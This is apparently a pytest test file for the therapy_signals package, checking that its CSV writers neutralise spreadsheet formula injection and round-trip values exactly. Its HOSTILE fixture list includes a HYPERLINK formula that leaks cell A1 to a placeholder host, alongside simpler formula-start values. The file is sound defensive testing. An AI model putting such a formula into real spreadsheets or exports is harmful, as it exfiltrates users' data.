"""CSV formula injection: no CSV we write has a cell a spreadsheet would run, and ours read back exactly.

OWASP's rule: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is a formula to Excel, LibreOffice and Google Sheets. Each writer here gets such values in
every column a user controls, and the file is then read as a spreadsheet would read it.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from therapy_signals import RuleBook, Scenario
from therapy_signals.batch import read_results, read_scenarios, run_batch, write_report, write_scenarios
from therapy_signals.batch._csv import neutral, restored

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
    "=",
    "-",
    "'",
    "a plain note",
    "'a quote that starts no formula",
]


def formula_cells(path: Path) -> list[str]:
    """Every cell that a spreadsheet would take for a formula, as it would read the file."""
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row if cell.startswith(FORMULA_START)]


@given(st.text())
def test_neutral_never_starts_a_formula_and_restored_undoes_it(text: str) -> None:
    written = neutral(text)
    assert not written.startswith(FORMULA_START)
    assert restored(written) == text
    assert written == text or written == "'" + text  # at most one quote more, nothing else changed


@pytest.mark.parametrize("prefix", ["", "'", "''"])
@pytest.mark.parametrize("start", FORMULA_START)
def test_a_quote_is_added_exactly_when_a_formula_start_follows_the_quotes(prefix: str, start: str) -> None:
    assert neutral(prefix + start + "x") == "'" + prefix + start + "x"
    assert neutral(prefix + "x" + start) == prefix + "x" + start


def _hostile_scenarios(book: RuleBook) -> list[Scenario]:
    signal = sorted(book.signals)[0]
    scenarios = []
    for number, value in enumerate(HOSTILE):
        observations = [{"signal": signal, "note": value}, {"signal": value}]
        scenarios.append(Scenario.model_validate({"id": f"{value}{number}", "observations": observations}))
    return scenarios


def test_scenario_csv_has_no_formula_and_reads_back_exactly(tmp_path: Path, book: RuleBook) -> None:
    items = _hostile_scenarios(book)
    path = tmp_path / "s.csv"
    write_scenarios(items, path)
    assert formula_cells(path) == []
    assert list(read_scenarios(path)) == items
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["scenario_id"] == "'" + HOSTILE[0] + "0"  # neutralised by a quote, nothing else
    assert rows[0]["note"] == "'" + HOSTILE[0]


def test_results_csv_has_no_formula_and_reads_back_exactly(tmp_path: Path, book: RuleBook) -> None:
    signal = sorted(book.signals)[0]
    items = [{"id": value, "observations": [{"signal": signal}]} for value in HOSTILE]
    out = tmp_path / "r.csv"
    produced = [r for r in run_batch(items, out, text=True) if r.ok]
    assert [r.scenario_id for r in produced] == HOSTILE
    assert formula_cells(out) == []
    assert list(read_results(out)) == produced


@pytest.mark.filterwarnings("ignore:Glyph:UserWarning")  # a chart label with a tab or CR: the test's own doing
def test_every_report_table_has_no_formula(tmp_path: Path) -> None:
    # A results file is an input too: rule ids and signals can be anything a file says.
    rows = [
        {"scenario_id": value, "setting": value, "level": "concern", "signals": [value], "findings": [value]}
        for value in HOSTILE
    ]
    results = tmp_path / "hostile.jsonl"
    results.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    report = write_report(results, tmp_path / "report")
    tables = [t for t in report.tables if t.suffix == ".csv"]
    assert {t.name for t in tables} == {"levels.csv", "categories.csv", "rules.csv", "signal_levels.csv"}
    for table in tables:
        assert formula_cells(table) == [], table.name
    with (tmp_path / "report" / "rules.csv").open(newline="", encoding="utf-8") as file:
        listed = {restored(row["rule"]) for row in csv.DictReader(file)}
    assert listed == set(HOSTILE)  # neutralised, not dropped or mangled


def test_a_hand_written_quoted_cell_reads_as_its_text(tmp_path: Path, book: RuleBook) -> None:
    """The documented reading: one leading quote before a formula start is ours, and goes."""
    signal = sorted(book.signals)[0]
    path = tmp_path / "s.csv"
    path.write_text(f"scenario_id,signal,note\n'=a,{signal},'+1\nb,{signal},'plain\n", encoding="utf-8")
    first, second = read_scenarios(path)
    assert (first.id, first.observations[0].note) == ("=a", "+1")
    assert (second.id, second.observations[0].note) == ("b", "'plain")


def test_the_results_csv_of_the_command_line_is_neutral(tmp_path: Path, book: RuleBook) -> None:
    import subprocess

    from .conftest import SCRIPT

    signal = sorted(book.signals)[0]
    lines = [json.dumps({"id": value, "observations": [{"signal": signal}]}) for value in HOSTILE]
    done = subprocess.run(
        [str(SCRIPT), "batch", "-", "-o", "-", "--output-format", "csv", "-q"],
        input="\n".join(lines).encode(),
        capture_output=True,
        timeout=300,
        check=True,
    )
    cells = [c for row in csv.reader(io.StringIO(done.stdout.decode())) for c in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
